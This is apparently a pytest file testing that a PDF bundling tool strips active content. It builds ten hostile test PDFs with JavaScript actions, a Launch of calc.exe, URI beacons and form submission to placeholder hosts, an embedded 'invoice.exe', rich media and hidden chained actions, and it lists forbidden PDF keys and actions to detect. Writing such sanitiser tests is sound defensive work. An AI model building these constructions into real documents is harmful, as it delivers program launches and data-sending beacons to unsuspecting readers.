"""Issue 24, N2: an attachment joined by ``ecqwriter bundle`` carries no active content into
the submission. Ten hostile attachments, each hiding a different kind of script, program
launch, web beacon, form submission, embedded file or media player, go through the real
command; then every object of the output is read and none of it may remain, while the
attachments' pages, their words and the bookmarks stay where they were."""

from __future__ import annotations

import io

import pytest

from conftest import run_cli

# what must not be left anywhere in a submission: as a key, as an action's /S, as a /Subtype or /Type
FORBIDDEN_KEYS = {"/JS", "/JavaScript", "/AA", "/OpenAction", "/EmbeddedFiles", "/EF", "/XFA", "/URI",
                  "/RichMediaContent", "/RichMediaSettings", "/3DD", "/Launch"}
FORBIDDEN_ACTIONS = {"/JavaScript", "/Launch", "/URI", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE",
                     "/Rendition", "/Sound", "/Movie", "/ResetForm", "/Hide"}
FORBIDDEN_SUBTYPES = {"/RichMedia", "/3D", "/Sound", "/Movie", "/Screen", "/FileAttachment"}
FORBIDDEN_TYPES = {"/EmbeddedFile", "/Filespec"}


def _pdf(value, writer):
    """A Python value as a pypdf object: "/Name", text, numbers, lists, dicts; ``("ref", x)``
    makes ``x`` an indirect object."""
    from pypdf.generic import (ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject,
                               NumberObject, PdfObject, TextStringObject)

    if isinstance(value, PdfObject):
        return value
    if isinstance(value, tuple) and value[0] == "ref":
        return writer._add_object(_pdf(value[1], writer))
    if isinstance(value, tuple) and value[0] == "stream":
        stream = DecodedStreamObject()
        stream.set_data(value[1])
        stream.update({NameObject(k): _pdf(v, writer) for k, v in value[2].items()})
        return stream
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, bool):
        raise TypeError(value)
    if isinstance(value, int):
        return NumberObject(value)
    if isinstance(value, float):
        return FloatObject(value)
    if isinstance(value, list):
        return ArrayObject(_pdf(v, writer) for v in value)
    return DictionaryObject({NameObject(k): _pdf(v, writer) for k, v in value.items()})


def _page_words(word: str, pages: int):
    from pypdf import PdfReader, PdfWriter
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    drawing = canvas.Canvas(out)
    for number in range(pages):
        drawing.drawString(72, 720, f"{word} page {number + 1}")
        drawing.showPage()
    drawing.save()
    return PdfWriter(clone_from=PdfReader(io.BytesIO(out.getvalue())))


def _annotate(writer, page_index: int, *annotations) -> None:
    from pypdf.generic import ArrayObject, NameObject

    page = writer.pages[page_index]
    annots = page.get("/Annots", ArrayObject())
    for annotation in annotations:
        annots.append(_pdf(("ref", {"/Type": "/Annot", "/Rect": [0, 0, 612, 792], **annotation}), writer))
    page[NameObject("/Annots")] = annots


def _javascript(code: str) -> dict:
    return {"/Type": "/Action", "/S": "/JavaScript", "/JS": code}


LAUNCH_CALC = {"/S": "/Launch", "/F": "calc.exe", "/Win": {"/F": "calc.exe"}}


def _hostile(kind: str, word: str):
    """One attachment of two pages, each page saying ``word``, with one kind of active content."""
    from pypdf.generic import NameObject

    writer = _page_words(word, 2)
    root = writer.root_object
    first = writer.pages[0].indirect_reference

    def put(target, key, value):
        target[NameObject(key)] = _pdf(value, writer)

    if kind == "page-open-javascript":
        for page in writer.pages:
            put(page, "/AA", {"/O": _javascript("app.alert('opened')"), "/C": LAUNCH_CALC})
    elif kind == "launch-calc":
        _annotate(writer, 0, {"/Subtype": "/Link", "/Border": [0, 0, 0], "/A": LAUNCH_CALC})
    elif kind == "uri-beacon":
        _annotate(writer, 1, {"/Subtype": "/Link", "/A": {"/S": "/URI", "/URI": "https://beacon.example/t?id=1"}})
        put(root, "/URI", {"/Base": "https://beacon.example/"})
    elif kind == "form-submit-xfa":
        submit = {"/FT": "/Btn", "/Ff": 65536, "/T": "send", "/Subtype": "/Widget",
                  "/A": {"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "https://collect.example/"}},
                  "/AA": {"/K": _javascript("event.value = 1")}}
        load = {"/FT": "/Btn", "/Ff": 65536, "/T": "load", "/Subtype": "/Widget",
                "/A": {"/S": "/ImportData", "/F": "data.fdf", "/Next": {"/S": "/ResetForm"}}}
        _annotate(writer, 0, submit, load)
        put(root, "/AcroForm", {"/Fields": list(writer.pages[0]["/Annots"]),
                                "/XFA": ("ref", ("stream", b"<xdp:xdp><script>x()</script></xdp:xdp>", {}))})
    elif kind == "remote-links":
        _annotate(writer, 0, {"/Subtype": "/Link", "/A": {"/S": "/GoToR", "/F": "other.pdf", "/D": [0, "/Fit"]}},
                  {"/Subtype": "/Link", "/A": {"/S": "/GoToE", "/D": [0, "/Fit"],
                                               "/T": {"/R": "/C", "/N": "inner.pdf"}}})
    elif kind == "rich-media":
        _annotate(writer, 0, {"/Subtype": "/RichMedia",
                              "/RichMediaContent": {"/Assets": {"/Names": []}, "/Configurations": []},
                              "/RichMediaSettings": {"/Activation": {"/Condition": "/PO"}}})
    elif kind == "media-3d-sound-movie":
        _annotate(writer, 0, {"/Subtype": "/3D", "/3DD": ("ref", ("stream", b"U3D", {"/Type": "/3D",
                                                                                      "/Subtype": "/U3D"}))},
                  {"/Subtype": "/Sound", "/Sound": ("ref", ("stream", b"\0" * 16, {"/Type": "/Sound", "/R": 8000}))},
                  {"/Subtype": "/Movie", "/Movie": {"/F": "clip.mov"}, "/A": {"/S": "/Movie"}},
                  {"/Subtype": "/Screen", "/A": {"/S": "/Rendition", "/OP": 0, "/JS": "play()"}})
    elif kind == "embedded-file":
        payload = ("ref", ("stream", b"MZ not really a program", {"/Type": "/EmbeddedFile"}))
        spec = ("ref", {"/Type": "/Filespec", "/F": "invoice.exe", "/UF": "invoice.exe", "/EF": {"/F": payload}})
        put(root, "/Names", {"/EmbeddedFiles": {"/Names": ["invoice.exe", spec]}})
        _annotate(writer, 1, {"/Subtype": "/FileAttachment", "/FS": {"/Type": "/Filespec", "/F": "note.exe",
                                                                     "/EF": {"/F": payload}}})
    elif kind == "open-action":
        put(root, "/OpenAction", _javascript("this.submitForm('https://collect.example/')"))
        put(root, "/AA", {"/WC": _javascript("app.alert('closing')")})
        put(root, "/Names", {"/JavaScript": {"/Names": ["init", ("ref", _javascript("app.launchURL('x')"))]}})
        writer.add_outline_item(title="trap", page_number=0)
        put(writer.root_object["/Outlines"]["/First"].get_object(), "/A", _javascript("app.alert('outline')"))
    elif kind == "next-chain":
        # an innocent jump to the second page, with a script and a launch hidden behind it
        hidden = {"/S": "/GoTo", "/D": [writer.pages[1].indirect_reference, "/Fit"],
                  "/Next": [_javascript("app.alert('chained')"), {"/S": "/GoTo", "/D": [first, "/Fit"],
                                                                   "/Next": LAUNCH_CALC}]}
        _annotate(writer, 0, {"/Subtype": "/Link", "/Rect": [72, 700, 300, 740], "/A": hidden})
    else:
        raise AssertionError(kind)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# each kind, and what its line on standard error must name
HOSTILE = {
    "page-open-javascript": ["JavaScript", "Launch", "2 pages"],
    "launch-calc": ["Launch"],
    "uri-beacon": ["web link (URI)"],
    "form-submit-xfa": ["SubmitForm", "ImportData", "XFA", "JavaScript"],
    "remote-links": ["GoToR", "GoToE"],
    "rich-media": ["RichMedia annotation"],
    "media-3d-sound-movie": ["3D annotation", "Sound annotation", "Movie annotation", "Screen annotation"],
    "embedded-file": ["embedded file", "FileAttachment annotation"],
    "open-action": ["4 JavaScript actions", "document"],
    "next-chain": ["JavaScript", "Launch"],
}


def _every_object(reader):
    """Every dictionary and array in the file: each indirect object the cross-reference lists
    (in a table or in object streams), and everything reachable from the trailer, nested ones too."""
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

    starts = [reader.trailer]
    for generation, numbers in reader.xref.items():
        starts += [IndirectObject(number, generation, reader) for number in numbers]
    starts += [IndirectObject(number, 0, reader) for number in reader.xref_objStm]
    seen: set[int] = set()
    stack = list(starts)
    found = []
    while stack:
        item = stack.pop()
        if isinstance(item, IndirectObject):
            item = item.get_object()
        if id(item) in seen or not isinstance(item, (DictionaryObject, ArrayObject)):
            continue
        seen.add(id(item))
        found.append(item)
        stack.extend(item.values() if isinstance(item, DictionaryObject) else item)
    return found


def _active_content(reader) -> list[str]:
    from pypdf.generic import DictionaryObject

    left = []
    for item in _every_object(reader):
        if not isinstance(item, DictionaryObject):
            continue
        left += [f"key {key}" for key in FORBIDDEN_KEYS & set(item)]
        if item.get("/S") in FORBIDDEN_ACTIONS:
            left.append(f"action {item['/S']}")
        if item.get("/Subtype") in FORBIDDEN_SUBTYPES:
            left.append(f"annotation {item['/Subtype']}")
        if item.get("/Type") in FORBIDDEN_TYPES:
            left.append(f"object {item['/Type']}")
    return left


@pytest.fixture(scope="module")
def hostile_bundle(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    package = folder / "candidate.ecq"
    made = run_cli("sample", "sample-opm-2006", "-o", package)
    assert made.returncode == 0, made.stderr
    files = []
    for number, kind in enumerate(HOSTILE, start=1):
        path = folder / f"{kind}.pdf"
        path.write_bytes(_hostile(kind, f"hostile{number:02d}"))
        files.append(path)
    out = folder / "submission.pdf"
    attach = [arg for number, path in enumerate(files, start=1) for arg in ("--attach", f"{path}=Attachment {number}")]
    done = run_cli("bundle", package, *attach, "-o", out, timeout=300)
    return files, out, done, package


def test_hostile_attachments_arrive_without_any_active_content(hostile_bundle):
    from pypdf import PdfReader

    files, out, done, _ = hostile_bundle
    assert done.returncode == 0, done.stderr
    for path in files:  # each attachment really was hostile when it went in
        assert _active_content(PdfReader(path)), path.name
    reader = PdfReader(out)
    assert _active_content(reader) == []
    lines = done.stderr.splitlines()
    assert len(lines) == len(HOSTILE), done.stderr  # one line per attachment, nothing else
    for path, line in zip(files, lines):
        assert line.startswith(f"{path.name}: removed "), line
        for words in HOSTILE[path.stem]:
            assert words in line, (line, words)


def test_the_attachments_pages_words_and_bookmarks_stay_where_they_were(hostile_bundle):
    from pypdf import PdfReader

    files, out, done, _ = hostile_bundle
    assert done.returncode == 0, done.stderr
    reader = PdfReader(out)
    marks = {item.title: reader.get_destination_page_number(item) for item in reader.outline
             if not isinstance(item, list)}
    assert marks["Cover and contents"] == 0 and "Résumé" in marks
    for number in range(1, len(files) + 1):
        start = marks[f"Attachment {number}"]
        for page in range(2):
            assert f"hostile{number:02d} page {page + 1}" in reader.pages[start + page].extract_text()
    # the harmless jump of the last attachment still works, pointing at its own second page
    chained = reader.pages[marks[f"Attachment {len(files)}"]]
    links = [a.get_object() for a in chained.get("/Annots", [])]
    assert len(links) == 1 and links[0]["/A"]["/S"] == "/GoTo"
    assert [jump["/S"] for jump in links[0]["/A"]["/Next"]] == ["/GoTo"]  # the script and the launch gone
    target = reader.pages[marks[f"Attachment {len(files)}"] + 1].indirect_reference
    assert links[0]["/A"]["/D"][0].idnum == target.idnum


def test_the_bundle_report_lists_what_was_removed_and_a_clean_attachment_adds_nothing(hostile_bundle, tmp_path):
    from ecqwriter.application.bundling import bundle_package

    files, _, _, package = hostile_bundle
    clean = tmp_path / "clean.pdf"
    writer = _page_words("clean", 1)
    writer.write(clean)
    report = bundle_package(package, [(clean, "Clean"), (files[1], None), (files[0], None)], tmp_path / "out.pdf")
    assert report.removed == ["launch-calc.pdf: removed 1 Launch action (runs a program)",
                              "page-open-javascript.pdf: removed 2 JavaScript actions, "
                              "2 Launch actions (run programs), additional actions on 2 pages"]


def test_the_last_sweep_over_the_joined_file_catches_what_an_attachment_still_carried(monkeypatch):
    """The second line of defence: were an attachment joined uncleaned, the sweep over the
    whole submission removes its active content, says so, and writes no orphaned copy of it."""
    from pypdf import PdfReader

    from ecqwriter.export import bundle
    from ecqwriter.export.pdf_sanitise import Removed

    monkeypatch.setattr(bundle, "_without_active_content", lambda reader, path: (reader, Removed()))
    package = io.BytesIO()
    _page_words("package", 2).write(package)
    hostile = [bundle.Attachment(bundle.Path(f"{kind}.pdf"), kind, _hostile(kind, kind))
               for kind in ("page-open-javascript", "form-submit-xfa", "next-chain")]
    facts = bundle.CoverFacts("A. Candidate", "", "", "Criterion A", "today")
    joined = bundle.assemble(package.getvalue(), [bundle.PackagePart("resume", "Résumé", 1, 2)], hostile, facts)
    assert len(joined.removed) == 1 and joined.removed[0].startswith("the joined submission: removed ")
    assert "JavaScript" in joined.removed[0] and "SubmitForm" in joined.removed[0]
    reader = PdfReader(io.BytesIO(joined.data))
    assert _active_content(reader) == []
    assert [item.title for item in reader.outline] == ["Cover and contents", "Résumé", *[a.title for a in hostile]]
    assert joined.measured == [2, 2, 2, 2]


def test_an_outline_keeps_its_siblings_while_an_outline_script_goes():
    """An outline item's /Next is the next bookmark, not a chained action."""
    from pypdf import PdfReader

    from ecqwriter.export.pdf_sanitise import strip_active_content

    writer = _page_words("outline", 2)
    writer.add_outline_item(title="first", page_number=0)
    second = writer.add_outline_item(title="second", page_number=1).get_object()
    second[_pdf("/A", writer)] = _pdf(_javascript("app.alert(1)"), writer)
    assert str(strip_active_content(writer)) == "1 JavaScript action"
    out = io.BytesIO()
    writer.write(out)
    assert [item.title for item in PdfReader(out).outline] == ["first", "second"]
